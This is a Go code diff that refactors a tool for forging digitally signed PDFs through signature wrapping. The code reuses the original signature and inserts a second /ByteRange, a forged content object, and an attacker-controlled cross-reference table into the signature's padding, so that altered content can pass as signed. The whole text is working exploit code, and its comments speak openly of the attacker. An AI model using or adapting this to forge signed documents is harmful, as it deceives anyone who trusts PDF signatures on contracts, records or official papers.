@@ -45,51 +45,58 @@ type wrapper struct {
 	table  int // offset of the signed cross-reference table, where the attacker's has to stand
 }
 
+// rangeWidth is the room for the second /ByteRange.
+const rangeWidth = 60
+
 func (w *wrapper) build(content pdf.Ref, forged string) ([]byte, error) {
-	padded := string(w.signed[w.p.contents+1 : w.p.closes-1])
-	message := strings.TrimRight(padded, "0")
+	head := w.head()
+	object := fmt.Sprintf("%d %d obj\n<</Length %d>>\nstream\n%sendstream\nendobj\n", content.Num, content.Gen,
+		len(forged), forged)
+	end := ">>\nendobj\n"
+	at := w.p.contents + len(head) + rangeWidth + len(end)
+	if at+len(object) > w.table {
+		return nil, ErrTarget
+	}
+	filler := strings.Repeat(" ", w.table-at-len(object))
+	// The table's length does not depend on its numbers, so the shift is known before they are.
+	shift := int64(w.table+len(w.xref(content.Num, at, 0))) - int64(w.p.closes)
+	n := w.p.numbers
+	second := fmt.Sprintf("[0 %d %d %d]", n[1], n[2]+shift, n[3])
+	second += strings.Repeat(" ", rangeWidth-len(second))
+	hole := head + second + end + object + filler + w.xref(content.Num, at, shift)
+	out := append(bytes.Clone(w.signed[:w.p.contents]), hole...)
+	return append(out, w.signed[w.p.closes:]...), nil
+}
+
+// head is the hole's beginning: the signature without its padding, the rest of the dictionary as it was, and the key of
+// a second range.
+func (w *wrapper) head() string {
+	message := strings.TrimRight(string(w.signed[w.p.contents+1:w.p.closes-1]), "0")
 	message += strings.Repeat("0", len(message)%2)
-	// The hole begins as it did, then goes on with the dictionary as it went on, and ends it with a range of its own.
-	const width = 60
 	rest := w.signed[w.p.closes:]
 	rest = rest[:max(0, bytes.Index(rest, []byte("endobj")))]
 	rest = bytes.TrimSuffix(bytes.TrimSpace(rest), []byte(">>"))
-	head := "<" + message + ">" + string(rest) + " /ByteRange "
-	var hole bytes.Buffer
-	hole.WriteString(head)
-	rangeAt := hole.Len()
-	hole.WriteString(strings.Repeat(" ", width) + ">>\nendobj\n")
-	object := w.p.contents + hole.Len()
-	fmt.Fprintf(&hole, "%d %d obj\n<</Length %d>>\nstream\n%sendstream\nendobj\n", content.Num, content.Gen, len(forged), forged)
-	if w.p.contents+hole.Len() > w.table {
-		return nil, ErrTarget
-	}
-	hole.WriteString(strings.Repeat(" ", w.table-w.p.contents-hole.Len()))
-	hole.WriteString("xref\n")
+	return "<" + message + ">" + string(rest) + " /ByteRange "
+}
+
+// xref is the attacker's table: the forged content at its place, what stood behind the hole moved by shift.
+func (w *wrapper) xref(content, at int, shift int64) string {
+	var b strings.Builder
+	b.WriteString("xref\n")
 	for num := 1; num < w.doc.Objects(); num++ {
 		pos, ok := w.doc.Position(num)
-		if num == content.Num {
-			pos = int64(object)
+		if !ok {
+			continue
 		}
-		if ok && pos > int64(w.p.closes) {
-			pos += 5_000_000_000 // moved; corrected below, when the length is known
+		if pos > int64(w.p.closes) {
+			pos += shift
 		}
-		if ok {
-			fmt.Fprintf(&hole, "%d 1\n%010d 00000 n\r\n", num, pos)
+		if num == content {
+			pos = int64(at)
 		}
+		fmt.Fprintf(&b, "%d 1\n%010d 00000 n\r\n", num, pos)
 	}
-	trailer := w.doc.Trailer()
-	root := trailer["Root"].(pdf.Ref)
-	fmt.Fprintf(&hole, "trailer\n<</Size %d /Root %d %d R>>\n", w.doc.Objects(), root.Num, root.Gen)
-	shift := int64(w.p.contents + hole.Len() - w.p.closes)
-	text := hole.Bytes()
-	copy(text[rangeAt:], fmt.Sprintf("[0 %d %d %d]", w.p.numbers[1], w.p.numbers[2]+shift, w.p.numbers[3]))
-	for num := 1; num < w.doc.Objects(); num++ {
-		pos, ok := w.doc.Position(num)
-		if ok && pos > int64(w.p.closes) {
-			text = bytes.Replace(text, fmt.Appendf(nil, "%010d", pos+5_000_000_000), fmt.Appendf(nil, "%010d", pos+shift), 1)
-		}
-	}
-	out := append(bytes.Clone(w.signed[:w.p.contents]), text...)
-	return append(out, w.signed[w.p.closes:]...), nil
+	root, _ := w.doc.Trailer()["Root"].(pdf.Ref)
+	fmt.Fprintf(&b, "trailer\n<</Size %d /Root %d %d R>>\n", w.doc.Objects(), root.Num, root.Gen)
+	return b.String()
 }
